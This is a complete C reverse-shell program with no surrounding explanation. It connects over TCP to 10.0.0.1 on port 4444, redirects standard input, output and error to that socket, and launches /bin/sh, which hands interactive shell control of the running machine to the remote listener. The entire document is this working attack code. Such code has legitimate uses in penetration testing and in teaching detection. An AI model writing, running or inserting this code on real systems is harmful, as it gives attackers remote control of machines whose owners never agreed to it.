#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in a = {0};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_family = AF_INET; a.sin_port = htons(4444);
	inet_pton(AF_INET, "10.0.0.1", &a.sin_addr);
	connect(s, (struct sockaddr *)&a, sizeof a);
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	execl("/bin/sh", "sh", (char *)0);
	return 0;
}
